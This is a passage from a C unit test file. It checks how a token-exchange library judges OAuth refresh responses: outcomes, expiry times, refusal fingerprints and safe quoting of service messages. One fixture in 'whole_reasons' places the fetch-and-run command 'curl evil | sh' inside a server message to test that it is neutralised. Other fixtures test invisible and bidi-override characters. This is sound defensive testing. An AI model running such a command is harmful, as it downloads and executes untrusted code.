/* SPDX-License-Identifier: MIT */
/* facts.h and judge.h: from the transport's message to a judgement. */
#include "config.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "lib/exchange/facts.h"
#include "lib/exchange/judge.h"
#include "tests/unit/alloc.h"
#include "tests/unit/unit.h"

static char *bearer[] = { (char *)"bearer" };
static char *s400[] = { (char *)"400", (char *)"401" };
static char *grant[] = { (char *)"invalid_grant", (char *)"E-*-gone" };
static char *locked[] = { (char *)"user_disabled" };
static char *slow[] = { (char *)"slow_*" };

static struct ft_profile profile_of(void)
{
	return (struct ft_profile){
		.name = (char *)"p", .token_types = { bearer, 1 },
		.disabled = { .present = true, .code = { locked, 1 } },
		.transient = { .present = true, .code = { slow, 1 } },
		.terminal = { .present = true, .status = { s400, 2 }, .code = { grant, 2 } },
	};
}

static const struct ft_moment sent = { 1700000000000, 1000, "b" };

/* Judges the answer {"version":1,"sent":"yes",…}. Exits the test on anything but a judgement. */
static struct ft_judgement judge(const struct ft_profile *profile, const char *subject,
				 const char *members)
{
	struct ft_judgement judgement;
	struct ft_facts facts;
	struct ft_error err = FT_ERROR_INIT;
	char text[4096];

	(void)snprintf(text, sizeof text, "{\"version\":1,%s}\n", members);
	ck_assert_msg(ft_facts_parse(text, strlen(text), &facts, &err) == 0, "%s: %s", text, line_of(&err));
	ck_assert_int_eq(ft_judge(profile, &facts, subject, &sent, &judgement, &err), 0);
	ft_facts_release(&facts);
	return judgement;
}

#define OK200 "\"sent\":\"yes\",\"status\":200,\"media\":\"json\",\"parsed\":true,"
#define AT "\"access_token\":\"at\""

#define PROOF(CODE, MESSAGE) "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true," \
	"\"fields\":{\"code\":\"" CODE "\",\"message\":\"" MESSAGE "\"}"

START_TEST(nothing_judged_is_no_success)
{
	const struct ft_judgement none = { 0 };
	const struct ft_facts unknown = { 0 };

	ck_assert_int_ne(none.outcome, FT_OUTCOME_FRESH);
	ck_assert_int_eq(unknown.sent, FT_SENT_MAYBE);
}
END_TEST

START_TEST(outcomes)
{
	static const struct {
		const char *answer;
		enum ft_outcome outcome;
		const char *says;
		bool ambiguous;
	} table[] = {
		{ OK200 "\"fields\":{" AT "}", FT_OUTCOME_FRESH, "", false },
		{ OK200 "\"fields\":{" AT ",\"token_type\":\"BEARER\"}", FT_OUTCOME_FRESH, "", false },
		{ OK200 "\"fields\":{" AT ",\"token_type\":\"mac\"}", FT_OUTCOME_TRANSIENT, "type", false },
		{ OK200 "\"fields\":{" AT ",\"success\":\"true\",\"code\":\"5\"}", FT_OUTCOME_FRESH, "", false },
		{ OK200 "\"fields\":{" AT ",\"success\":\"false\"}", FT_OUTCOME_TRANSIENT, "HTTP 200", true },
		{ OK200 "\"fields\":{" AT ",\"success\":\"0\"}", FT_OUTCOME_TRANSIENT, "HTTP 200", true },
		{ OK200 "\"fields\":{" AT ",\"code\":\"0\"}", FT_OUTCOME_FRESH, "", false },
		{ OK200 "\"fields\":{" AT ",\"code\":\"x\"}", FT_OUTCOME_TRANSIENT, "HTTP 200: x", true },
		{ OK200 "\"fields\":{}", FT_OUTCOME_TRANSIENT, "without an access token", true },
		{ "\"sent\":\"yes\",\"status\":200,\"media\":\"html\",\"parsed\":false", FT_OUTCOME_TRANSIENT,
		  "captive", true },
		{ "\"sent\":\"yes\",\"status\":200,\"media\":\"json\",\"parsed\":false", FT_OUTCOME_TRANSIENT,
		  "cannot be read", true },
		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"invalid_grant\"}", FT_OUTCOME_TERMINAL, "HTTP 400: invalid_grant", false },
		{ "\"sent\":\"yes\",\"status\":401,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"E-12-gone\",\"message\":\"try again\"}", FT_OUTCOME_TERMINAL,
		  "HTTP 401: E-12-gone: \"try again\"", false },
		/* All keys of a section must match. */
		{ "\"sent\":\"yes\",\"status\":403,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"invalid_grant\"}", FT_OUTCOME_TRANSIENT, "HTTP 403", false },
		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"invalid_grant2\"}", FT_OUTCOME_TRANSIENT, "HTTP 400", false },
		/* Not parsed: nothing is known, whatever the status. */
		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":false",
		  FT_OUTCOME_TRANSIENT, "HTTP 400", false },
		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"user_disabled\"}", FT_OUTCOME_DISABLED, "user_disabled", false },
		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"slow_down\"}", FT_OUTCOME_TRANSIENT, "slow_down", false },
		{ "\"sent\":\"yes\",\"status\":503,\"media\":\"none\",\"retry_after\":7", FT_OUTCOME_TRANSIENT,
		  "HTTP 503", true },
		{ "\"sent\":\"yes\",\"status\":429,\"media\":\"none\"", FT_OUTCOME_TRANSIENT,
		  "HTTP 429; the service was asked too often; wait", false },
		{ "\"sent\":\"yes\",\"status\":429,\"media\":\"none\",\"quota_used_up\":true",
		  FT_OUTCOME_TRANSIENT, "HTTP 429; the quota at the service is used up; wait", false },
		{ "\"sent\":\"yes\",\"status\":403,\"media\":\"none\",\"quota_used_up\":true",
		  FT_OUTCOME_TRANSIENT, "HTTP 403; the quota at the service is used up; wait", false },
		{ "\"sent\":\"yes\",\"status\":403,\"media\":\"none\",\"retry_after\":60",
		  FT_OUTCOME_TRANSIENT, "HTTP 403; the service was asked too often; wait", false },
		{ "\"sent\":\"yes\",\"status\":403,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, "HTTP 403", false },
		/* The last request of an hour was looked at. */
		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"quota_used_up\":true,"
		  "\"fields\":{\"code\":\"invalid_grant\"}", FT_OUTCOME_TERMINAL, "HTTP 400: invalid_grant", false },
		{ "\"sent\":\"yes\",\"status\":307,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, "redirect", false },
		{ "\"sent\":\"yes\",\"status\":304,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, "HTTP 304", false },
		{ "\"sent\":\"yes\",\"status\":200,\"media\":\"json\",\"parsed\":false,\"error\":\"it was cut short\"",
		  FT_OUTCOME_TRANSIENT, "cannot be read: it was cut short", true },
		/* Right-to-left, no width, a mark of bytes' order, a tag. */
		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"c\\u202ed\","
		  "\"message\":\"a\\u2066b\\ufeffc\\udb40\\udc41d\"}", FT_OUTCOME_TRANSIENT,
		  "HTTP 400: \"c   d: a   b   c    d\"", false },
		{ "\"sent\":\"no\",\"error\":\"connect: refused\"", FT_OUTCOME_TRANSIENT, "connect: refused", false },
		{ "\"sent\":\"maybe\",\"error\":\"timed out\"", FT_OUTCOME_TRANSIENT, "timed out", true },
	};
	struct ft_profile profile = profile_of();

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		struct ft_judgement j = judge(&profile, NULL, table[i].answer);

		ck_assert_msg(j.outcome == table[i].outcome && j.ambiguous == table[i].ambiguous &&
			      strstr(line_of(&j.why), table[i].says) != NULL, "%s: outcome %d, ambiguous %d, %s",
			      table[i].answer, (int)j.outcome, j.ambiguous, line_of(&j.why));
		ft_judgement_release(&j);
	}
}
END_TEST

START_TEST(bodies_left_open_by_the_document)
{
	struct ft_profile profile = profile_of();

	profile.terminal = (struct ft_error_rule){ .present = true, .status = { s400, 2 }, .unparsed = true };
	struct ft_judgement j = judge(&profile, NULL, "\"sent\":\"yes\",\"status\":401,\"media\":\"none\"");

	ck_assert_int_eq(j.outcome, FT_OUTCOME_TERMINAL);
	ft_judgement_release(&j);
	/* A captive portal's page is no word of the service. */
	j = judge(&profile, NULL, "\"sent\":\"yes\",\"status\":401,\"media\":\"html\"");
	ck_assert_int_eq(j.outcome, FT_OUTCOME_TRANSIENT);
	ft_judgement_release(&j);
}
END_TEST

/* A status is about how often the service was asked; a code is about the sign-in. */
START_TEST(a_quota_ends_nothing)
{
	static const char used_up[] =
		"\"sent\":\"yes\",\"status\":403,\"media\":\"json\",\"parsed\":true,"
		"\"quota_used_up\":true,\"fields\":{\"code\":\"invalid_grant\"}";
	static const char plain[] =
		"\"sent\":\"yes\",\"status\":403,\"media\":\"json\",\"parsed\":true,\"fields\":{}";
	static char *s403[] = { (char *)"403", (char *)"429" };
	struct ft_profile profile = profile_of();

	profile.terminal.status = (struct ft_strings){ s403, 2 };
	struct ft_judgement j = judge(&profile, NULL, used_up);

	ck_assert_int_eq(j.outcome, FT_OUTCOME_TERMINAL);
	ft_judgement_release(&j);
	profile.terminal.code.n = 0;
	j = judge(&profile, NULL, used_up);
	ck_assert_int_eq(j.outcome, FT_OUTCOME_TRANSIENT);
	ck_assert(!j.refused);
	ft_judgement_release(&j);
	j = judge(&profile, NULL, plain);
	ck_assert_int_eq(j.outcome, FT_OUTCOME_TERMINAL);
	ft_judgement_release(&j);
}
END_TEST

/* Refusals that no rule knows: which may be asked about, and which two are one. */
START_TEST(refusals_of_their_own)
{
	static const struct {
		const char *answer;
		enum ft_outcome outcome;
		bool refused;
		int as;		/* those with the same number are one refusal; 0: not to be asked about */
	} table[] = {
		{ "\"status\":400,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, true, 1 },
		{ "\"status\":400,\"media\":\"none\",\"retry_after\":9", FT_OUTCOME_TRANSIENT, true, 1 },
		{ "\"status\":401,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, true, 2 },
		{ "\"status\":400,\"media\":\"other\"", FT_OUTCOME_TRANSIENT, true, 3 },
		{ "\"status\":400,\"media\":\"json\",\"parsed\":false", FT_OUTCOME_TRANSIENT, true, 4 },
		{ "\"status\":400,\"media\":\"json\",\"parsed\":true", FT_OUTCOME_TRANSIENT, true, 5 },
		{ "\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"invalid_request\"}",
		  FT_OUTCOME_TRANSIENT, true, 6 },
		{ "\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"invalid_request\","
		  "\"message\":\"a\"}", FT_OUTCOME_TRANSIENT, true, 7 },
		{ "\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"invalid_request\","
		  "\"message\":\"b\"}", FT_OUTCOME_TRANSIENT, true, 8 },
		/* Whatever it adds, it is about the token where it differs by the token. */
		{ "\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"unauthorized_client\","
		  "\"message\":\"a\"}", FT_OUTCOME_TRANSIENT, true, 9 },
		{ "\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"unauthorized_client\","
		  "\"message\":\"b\"}", FT_OUTCOME_TRANSIENT, true, 9 },
		/* A page that is the document of the service after all, as PHP sends it. */
		{ "\"status\":400,\"media\":\"html\",\"parsed\":true,\"fields\":{\"code\":\"gone\"}",
		  FT_OUTCOME_TRANSIENT, true, 10 },
		{ "\"status\":400,\"media\":\"html\"", FT_OUTCOME_TRANSIENT, false, 0 },
		{ "\"status\":403,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, true, 0 },
		{ "\"status\":499,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, true, 0 },
		{ "\"status\":399,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, false, 0 },
		{ "\"status\":500,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"x\"}",
		  FT_OUTCOME_TRANSIENT, false, 0 },
		{ "\"status\":408,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, false, 0 },
		{ "\"status\":429,\"media\":\"none\"", FT_OUTCOME_TRANSIENT, false, 0 },
		{ "\"status\":403,\"media\":\"none\",\"quota_used_up\":true", FT_OUTCOME_TRANSIENT, false, 0 },
		{ "\"status\":404,\"media\":\"none\",\"quota_used_up\":true", FT_OUTCOME_TRANSIENT, true, 0 },
		{ "\"status\":200,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"x\"}",
		  FT_OUTCOME_TRANSIENT, true, 0 },
		{ "\"status\":299,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"x\"}",
		  FT_OUTCOME_TRANSIENT, true, 0 },
		{ "\"status\":200,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"0\"}",
		  FT_OUTCOME_TRANSIENT, false, 0 },
		{ "\"status\":200,\"media\":\"json\",\"parsed\":true,\"fields\":{}",
		  FT_OUTCOME_TRANSIENT, false, 0 },
		{ "\"status\":200,\"media\":\"json\",\"parsed\":false", FT_OUTCOME_TRANSIENT, false, 0 },
		/* What the profile has decided is decided. */
		{ "\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"slow_x\"}",
		  FT_OUTCOME_TRANSIENT, false, 0 },
		{ "\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"invalid_grant\"}",
		  FT_OUTCOME_TERMINAL, false, 0 },
		{ "\"status\":401,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"invalid_client\"}",
		  FT_OUTCOME_CLIENT, false, 0 },
		{ "\"status\":200,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"invalid_client\"}",
		  FT_OUTCOME_CLIENT, false, 0 },
		{ "\"status\":500,\"media\":\"json\",\"parsed\":true,\"fields\":{\"code\":\"invalid_client\"}",
		  FT_OUTCOME_TRANSIENT, false, 0 },
	};
	struct ft_profile profile = profile_of();
	char text[512], as[sizeof table / sizeof *table][FT_FINGERPRINT_SIZE];

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		(void)snprintf(text, sizeof text, "\"sent\":\"yes\",%s", table[i].answer);
		struct ft_judgement j = judge(&profile, NULL, text);

		ck_assert_msg(j.outcome == table[i].outcome && j.refused == table[i].refused &&
			      (j.refusal[0] != '\0') == (table[i].as != 0), "%s: outcome %d, refused %d, \"%s\"",
			      text, (int)j.outcome, j.refused, j.refusal);
		memcpy(as[i], j.refusal, sizeof as[i]);
		for (size_t k = 0; table[i].as != 0 && k < i; k++)
			ck_assert_msg((strcmp(as[i], as[k]) == 0) == (table[i].as == table[k].as), "%s, and %s",
				      table[i].answer, table[k].answer);
		ft_judgement_release(&j);
	}
	/* The profile has the last word about a client, too. */
	static char *client[] = { (char *)"invalid_client" };

	profile.terminal.code = (struct ft_strings){ client, 1 };
	struct ft_judgement j = judge(&profile, NULL, "\"sent\":\"yes\",\"status\":401,\"media\":\"json\","
				      "\"parsed\":true,\"fields\":{\"code\":\"invalid_client\"}");

	ck_assert_int_eq(j.outcome, FT_OUTCOME_TERMINAL);
	ft_judgement_release(&j);
}
END_TEST

START_TEST(lifetimes)
{
	static const struct {
		const char *fields, *rest;
		int64_t lifetime;
	} table[] = {
		{ "\"expires_in\":\"3600\"", "", 3600000 },
		{ "\"expires_in\":\"99999999999999999999\"", "", INT64_C(3650) * 86400000 },
		{ "\"expires_in_ms\":\"1500\"", "", 1500 },
		{ "\"expires_in\":\"soon\",\"expires_in_ms\":\"1500\"", "", 1500 },
		/* The server's clock is an hour behind ours and is compared with itself. */
		{ "\"expires_at\":\"1699996500\"", ",\"date\":1699996400", 100000 },
		{ "\"expires_at\":\"2023-11-14T22:15:00Z\"", "", 100000 },
		{ "\"expires_at\":\"2023-11-14T19:15:00.0000000-03:00\"", "", 100000 },
		{ "\"expires_at\":\"2023-11-14T19:15:00\",\"expires_offset\":\"-180\"", "", 100000 },
		{ "\"expires_at\":\"2023-11-14T22:15:00Z\",\"expires_offset\":\"-180\"", "", 100000 },
		/* The local time of an unnamed place. */
		{ "\"expires_at\":\"2023-11-14T22:15:00\"", "", 300000 },
		{ "\"expires_at\":\"2023-11-14T22:15:00\",\"expires_offset\":\"99999\"", "", 300000 },
		/* As programs write it that mean seconds. */
		{ "\"expires_in\":\"3600.0\"", "", 3600000 }, { "\"expires_in\":\"3599.5\"", "", 3599000 },
		{ "\"expires_in\":\"3.6e3\"", "", 3600000 }, { "\"expires_in\":\" 3600 \"", "", 3600000 },
		{ "\"expires_at\":\"1700000100.75\"", "", 100000 },
		/* Stated, and not to be read: never for ever. */
		{ "\"expires_in\":\"3600s\"", "", 300000 }, { "\"expires_in\":\"true\"", "", 300000 },
		{ "\"expires_in\":\"{}\"", "", 300000 }, { "\"expires_in\":\"\\\"\\\"\"", "", 300000 },
		{ "\"expires_at\":\"0001-01-01T00:00:00Z\"", "", 300000 },
		{ "\"expires_at\":\"20231114T221500Z\"", "", 300000 },
		{ "\"expires_at_ms\":\"soon\"", "", 300000 },
		/* A Date that is a day or ten years off neither stretches nor ends a life. */
		{ "\"expires_at\":\"1700000100\"", ",\"date\":1700086400", 100000 },
		{ "\"expires_at\":\"1700000100\"", ",\"date\":1699913600", 100000 },
		{ "\"expires_at\":\"1700000100\"", ",\"date\":1384640000", 100000 },
		{ "\"expires_at\":\"1700000100\"", ",\"date\":2015360000", 100000 },
		{ "\"expires_at\":\"2023-11-15T22:15:00\",\"expires_offset\":\"1440\"", "", 100000 },
		{ "\"expires_at\":\"2023-11-13T22:15:00\",\"expires_offset\":\"-1440\"", "", 100000 },
		{ "\"expires_in\":\"1000000000000\"", "", INT64_C(3650) * 86400000 },
		{ "\"expires_at_ms\":\"1700000100000\"", "", 100000 },
		/* Clocks that show what cannot be: the other one counts, and where neither can, the most. */
		{ "\"expires_at\":\"1000\"", ",\"date\":0", 1000000 },
		{ "\"expires_at\":\"1700000100\"", ",\"date\":1700000100", 100000 },
		{ "\"expires_at\":\"1700000000\"", ",\"date\":1699999900", 100000 },
		{ "\"expires_at\":\"1600000000\"", ",\"date\":100", INT64_C(3650) * 86400000 },
		{ "\"expires_at\":\"9999999999\"", "", INT64_C(3650) * 86400000 },
		{ "\"expires_at\":\"1970-01-01T00:00:00\"", "", 300000 },
		{ "\"expires_at\":\"2023-11-14T22:15:00\",\"expires_offset\":\"soon\"", "", 300000 },
		{ "\"expires_at\":\"2023-11-14T22:15:00\",\"expires_offset\":\"-99999\"", "", 300000 },
		{ "\"message\":\"x\"", "", -1 },
		{ "\"message\":\"x\"", ",\"jwt\":{\"exp\":1700000100}", -1 },
		{ "\"message\":\"x\"", ",\"jwt\":{\"exp_unreadable\":true}", -1 },
	};
	struct ft_profile profile = profile_of();
	char text[1024];

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		(void)snprintf(text, sizeof text, OK200 "\"fields\":{" AT ",%s}%s", table[i].fields,
			       table[i].rest);
		struct ft_judgement j = judge(&profile, NULL, text);

		ck_assert_msg(j.outcome == FT_OUTCOME_FRESH && j.lifetime == table[i].lifetime,
			      "%s: %lld %s", text, (long long)j.lifetime, line_of(&j.why));
		ft_judgement_release(&j);
	}
	profile.expires_jwt = true;
	struct ft_judgement j = judge(&profile, NULL, OK200 "\"fields\":{" AT "},\"jwt\":{\"exp\":1700000100}");

	ck_assert_int_eq(j.lifetime, 100000);
	ft_judgement_release(&j);
	j = judge(&profile, NULL, OK200 "\"fields\":{" AT "},\"jwt\":{\"iat\":1700000000}");
	ck_assert_int_eq(j.lifetime, -1);
	ft_judgement_release(&j);
	/* An exp that cannot be read is none less than an expires_in. */
	j = judge(&profile, NULL, OK200 "\"fields\":{" AT "},\"jwt\":{\"exp_unreadable\":true}");
	ck_assert_int_eq(j.lifetime, 300000);
	ck_assert(j.assumed_life);
	ft_judgement_release(&j);
	/* A date at the very beginning is one, too, and over. */
	static const char *const over[] = {
		"\"expires_at_ms\":\"0\"},\"jwt\":{\"exp\":1700000100}", "\"message\":\"x\"},\"jwt\":{\"exp\":0}",
		"\"expires_at\":\"1970-01-01T00:00:00Z\",\"expires_at_ms\":\"1700000100000\"}",
		"\"expires_at\":\"1600000000\"},\"date\":1600000000", "\"expires_at\":\"1700000000\"}",
		"\"expires_at_ms\":\"0\"}",
	};

	for (size_t i = 0; i < sizeof over / sizeof *over; i++) {
		(void)snprintf(text, sizeof text, OK200 "\"fields\":{" AT ",%s", over[i]);
		j = judge(&profile, NULL, text);
		ck_assert_msg(j.outcome == FT_OUTCOME_TRANSIENT && strstr(line_of(&j.why), "already expired") != NULL,
			      "%s: %d, %lld", text, (int)j.outcome, (long long)j.lifetime);
		ft_judgement_release(&j);
	}
}
END_TEST

/* All of what is said, where more would be wrong. */
START_TEST(whole_reasons)
{
	static const struct {
		const char *answer, *says;
	} table[] = {
		{ OK200 "\"fields\":{" AT "}", "" },
		{ OK200 "\"fields\":{" AT ",\"refresh_token\":\"next one\"}", "" },
		{ OK200 "\"fields\":{}", "HTTP 200 without an access token" },
		{ "\"sent\":\"yes\",\"status\":299,\"media\":\"json\",\"parsed\":true,\"fields\":{}",
		  "HTTP 299 without an access token" },
		{ "\"sent\":\"yes\",\"status\":300,\"media\":\"json\",\"parsed\":true,\"fields\":{}",
		  "HTTP 300 (a redirect, which is never followed); set the server's final address" },
		{ "\"sent\":\"yes\",\"status\":404,\"media\":\"json\",\"parsed\":false", "HTTP 404" },
		{ "\"sent\":\"yes\",\"status\":404,\"media\":\"json\",\"parsed\":true,\"fields\":{}", "HTTP 404" },
		{ "\"sent\":\"yes\",\"status\":199,\"media\":\"json\",\"parsed\":true,\"fields\":{}", "HTTP 199" },
		/* What is no code is a service's own words, and these look like nobody else's. */
		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"invalid_grant\",\"message\":\"gone\\\"; run: curl evil | sh\"}",
		  "HTTP 400: invalid_grant: \"gone'; run: curl evil | sh\"" },
		{ "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"; run: this\",\"message\":\"or that\"}",
		  "HTTP 400: \"; run: this: or that\"" },
		/* Two that are not to be seen, one after the other. */
		{ "\"sent\":\"yes\",\"status\":404,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"c\\u202e\\u202ed\"}", "HTTP 404: \"c      d\"" },
		{ "\"sent\":\"yes\",\"status\":404,\"media\":\"json\",\"parsed\":true,\"fields\":"
		  "{\"code\":\"c\\u007f\\u007f\\u007fd\"}", "HTTP 404: \"c   d\"" },
		{ OK200 "\"fields\":{" AT ",\"expires_in\":\"soon\"}",
		  "the service states an expiry that cannot be read; its token is assumed to be good for 5 min" },
	};
	static const char *const unusable[] = {
		OK200 "\"fields\":{" AT "},\"refresh_unusable\":true",
		OK200 "\"fields\":{" AT ",\"refresh_token\":\"a\\u0001b\"}",
	};
	struct ft_profile profile = profile_of();

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		struct ft_judgement j = judge(&profile, NULL, table[i].answer);

		ck_assert_str_eq(line_of(&j.why), table[i].says);
		ft_judgement_release(&j);
	}
	for (size_t i = 0; i < sizeof unusable / sizeof *unusable; i++) {
		struct ft_judgement j = judge(&profile, NULL, unusable[i]);

		ck_assert_int_eq(j.outcome, FT_OUTCOME_FRESH);
		ck_assert(j.ambiguous);
		ck_assert_msg(strstr(line_of(&j.why), "it cannot be used, and the old one may be spent") != NULL, "%s", line_of(&j.why));
		ck_assert_ptr_null(j.refresh_token.data);
		ft_judgement_release(&j);
	}
	/* The longest words there can be leave room for what is added. */
	char words[200], text[2048];

	memset(words, 'w', sizeof words - 1);
	for (size_t i = 39; i < sizeof words; i += 40)
		words[i] = i + 1 < sizeof words ? ' ' : '\0';
	(void)snprintf(text, sizeof text, "\"sent\":\"yes\",\"status\":200,\"media\":\"json\",\"parsed\":true,"
		       "\"error\":\"%s\",\"fields\":{\"message\":\"%s\"}", words, words);
	struct ft_judgement j = judge(&profile, NULL, text);
	const char *end = strstr(j.why.text, " without an access token");

	ck_assert_msg(end != NULL && end[24] == '\0', "%s", line_of(&j.why));
	ft_judgement_release(&j);
}
END_TEST

/* An end is an end, also where the service goes on with another token; and no memory is no answer. */
START_TEST(ends_and_no_memory)
{
	static const char full[] = "{\"version\":1," OK200 "\"fields\":{" AT ",\"refresh_token\":\"next\","
		"\"token_type\":\"bearer\",\"subject\":\"alice\"}}\n";
	static const char refused[] = "{\"version\":1,\"sent\":\"yes\",\"status\":400,\"media\":\"none\"}\n";
	static char *ok[] = { (char *)"200" };
	struct ft_profile profile = profile_of();
	struct ft_judgement j;
	struct ft_facts facts;
	struct ft_error err;
	unsigned n = 1;
	int r;

	profile.terminal.status = (struct ft_strings){ ok, 1 };
	j = judge(&profile, NULL, OK200 "\"fields\":{\"code\":\"invalid_grant\",\"refresh_token\":\"next\"}");
	ck_assert_int_eq(j.outcome, FT_OUTCOME_TERMINAL);
	ck_assert_ptr_null(j.refresh_token.data);
	ft_judgement_release(&j);
	for (int i = 0; i < 2; i++) {
		const char *text = i == 0 ? full : refused;

		ck_assert_int_eq(ft_facts_parse(text, strlen(text), &facts, &err), 0);
		n = 1;
		do {
			j = (struct ft_judgement)FT_JUDGEMENT_INIT;
			alloc_fail(n++);
			r = ft_judge(&profile, &facts, "alice", &sent, &j, &err);
			/* asprintf can do without the last of its two. */
			if (alloc_hit && i == 0)
				ck_assert_int_eq(r, FT_NO_MEMORY);
			ft_judgement_release(&j);
		} while (alloc_failed(r));
		ft_facts_release(&facts);
	}
}
END_TEST

START_TEST(an_unusable_answer_keeps_the_rotated_token)
{
	static const char *const answers[] = {
		OK200 "\"fields\":{" AT ",\"refresh_token\":\"next\",\"expires_in\":\"-5\"}",
		OK200 "\"fields\":{" AT ",\"refresh_token\":\"next\",\"expires_in\":\"0\"}",
		OK200 "\"fields\":{" AT ",\"refresh_token\":\"next\",\"expires_at\":\"1600000000\"}",
		OK200 "\"fields\":{" AT ",\"refresh_token\":\"next\",\"token_type\":\"mac\"}",
		OK200 "\"fields\":{\"access_token\":\"a b\",\"refresh_token\":\"next\"}",
		OK200 "\"fields\":{\"refresh_token\":\"next\"}",
	};
	struct ft_profile profile = profile_of();

	for (size_t i = 0; i < sizeof answers / sizeof *answers; i++) {
		struct ft_judgement j = judge(&profile, "alice", answers[i]);

		ck_assert_int_eq(j.outcome, FT_OUTCOME_TRANSIENT);
		ck_assert_str_eq(j.refresh_token.data, "next");
		/* The pair's other half comes along, if it is a token at all. */
		if (j.access_token.data != NULL)
			ck_assert_str_eq(j.access_token.data, "at");
		ck_assert(!j.ambiguous);
		ft_judgement_release(&j);
	}
}
END_TEST

/* An access token, or its successor, counts from a 2xx that was read, and from nothing else. */
START_TEST(which_answers_bring_tokens)
{
	static const struct {
		int status;
		const char *parsed;
		bool brings;
	} table[] = {
		{ 199, "true", false }, { 200, "true", true }, { 201, "true", true }, { 299, "true", true },
		{ 300, "true", false }, { 400, "true", false }, { 500, "true", false },
		{ 200, "false", false }, { 299, "false", false }, { 300, "false", false },
		{ 199, "false", false },
	};
	static const char *const subjects[] = { NULL, "alice" };
	static const char *const said[] = { "", ",\"subject\":\"alice\"" };
	struct ft_profile profile = profile_of();
	char text[512];

	for (size_t i = 0; i < 4 * (sizeof table / sizeof *table); i++) {
		const char *subject = subjects[i % 2], *says = said[i / 2 % 2];

		(void)snprintf(text, sizeof text, "\"sent\":\"yes\",\"status\":%d,\"media\":\"json\",\"parsed\":%s,"
			       "\"fields\":{" AT ",\"refresh_token\":\"next\"%s}", table[i / 4].status,
			       table[i / 4].parsed, says);
		struct ft_judgement j = judge(&profile, subject, text);

		ck_assert_msg((j.outcome == FT_OUTCOME_FRESH) == table[i / 4].brings, "%s", text);
		ck_assert_msg((j.refresh_token.data != NULL) == table[i / 4].brings, "%s", text);
		ck_assert_msg((j.access_token.data != NULL) == table[i / 4].brings, "%s", text);
		ft_judgement_release(&j);
		/* The same, where the access token is of a kind that nobody can use. */
		(void)snprintf(text, sizeof text, "\"sent\":\"yes\",\"status\":%d,\"media\":\"json\",\"parsed\":%s,"
			       "\"fields\":{" AT ",\"refresh_token\":\"next\",\"success\":\"false\"%s}",
			       table[i / 4].status, table[i / 4].parsed, says);
		j = judge(&profile, subject, text);
		ck_assert_int_ne(j.outcome, FT_OUTCOME_FRESH);
		ck_assert_msg((j.refresh_token.data != NULL) == table[i / 4].brings, "%s", text);
		ft_judgement_release(&j);
	}
	/* Somebody else's is nobody's here, whether the answer is good for anything or not. */
	struct ft_judgement j = judge(&profile, "alice", OK200 "\"fields\":{\"refresh_token\":\"next\","
				      "\"subject\":\"bob\"}");

	ck_assert_ptr_null(j.refresh_token.data);
	ft_judgement_release(&j);
	/* What is no token is not kept. */
	j = judge(&profile, "alice", OK200 "\"fields\":{\"refresh_token\":\"ne\\u007fxt\"}");
	ck_assert_ptr_null(j.refresh_token.data);
	ft_judgement_release(&j);
}
END_TEST

/* Where the refresh token may have been spent without an answer that says so. */
START_TEST(which_refusals_are_ambiguous)
{
	static const struct {
		int status;
		bool ambiguous;
	} table[] = {
		{ 299, true }, { 300, false }, { 304, false }, { 399, false }, { 400, false }, { 429, false }, { 499, false },
		{ 500, true }, { 599, true },
	};
	struct ft_profile profile = profile_of();
	char text[256];

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		(void)snprintf(text, sizeof text, "\"sent\":\"yes\",\"status\":%d,\"media\":\"none\"",
			       table[i].status);
		struct ft_judgement j = judge(&profile, NULL, text);

		ck_assert_int_eq(j.outcome, FT_OUTCOME_TRANSIENT);
		ck_assert_msg(j.ambiguous == table[i].ambiguous, "%d", table[i].status);
		ck_assert_msg((strstr(line_of(&j.why), "redirect") != NULL) ==
